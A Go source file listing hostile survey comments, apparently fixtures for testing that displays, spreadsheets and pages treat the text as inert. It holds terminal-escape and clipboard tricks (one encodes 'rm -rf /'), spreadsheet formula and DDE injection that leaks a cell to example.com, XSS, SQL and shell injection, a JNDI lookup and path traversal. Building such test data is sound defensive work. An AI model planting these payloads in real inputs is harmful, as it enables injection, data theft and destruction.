package sample

import "strings"

// hostile are comments that try something, or come from a program that went
// wrong. Every survey of this size has some; screens, files and pages must
// take them as words. All harm nobody.
var hostile = []string{
	"\x1b[2J\x1b[1;1HGreat service!",
	"ok\x1b]0;hacked\x07 thanks",
	"\x1b]52;c;cm0gLXJmIC8=\x07nice bike",
	"\x1b]8;;https://example.com/phish\x1b\\click for a refund\x1b]8;;\x1b\\",
	"\u009b31mred\u009b0m and late",
	"Score was \u202e01\u202c, not 1",
	"\u2067מצוין\u2069 but \u202Eneddih",
	"=HYPERLINK(\"http://example.com/?leak=\"&A1,\"open\")",
	"=1+1",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"+447700900123 please",
	"-2+3 stars",
	"zero\u200bwidth\u200djoin\u2060er\ufeff test",
	"<script>alert('bike')</script>",
	"<img src=x onerror=alert(1)>",
	"'; DROP TABLE responses; --",
	"$(touch /tmp/owned) `id` ; ls",
	"%s%s%s%n %d {{.Secret}} ${jndi:ldap://example.com/a}",
	"../../../../etc/passwd",
	"Z̷̧̢̛̙a̶̡̛͓̗l̵̨̛̝̯g̸̡̛̰͈o̷̧̨̝̎ was here",
	"tab\tseparated\tvalues\nand\r\nlines\vof\fall kinds",
	"null",
	"NaN",
	"👩‍👩‍👧‍👦🏳️‍🌈👍🏿1️⃣🇺🇦 family ride",
	"private \ue000 use, \U000e0041\U000e0042 tags and \U0010ffff end",
	"{\"score\": 10, \"admin\": true}",
	"\"quoted, with a comma\" and a lone \" quote",
	strings.Repeat("very ", 900) + "long story, sorry.",
	strings.Repeat("a", 3000),
	strings.Repeat("好", 700) + "。",
	"ﷺ﷽ ﷽﷽﷽﷽",
	"   ",
}
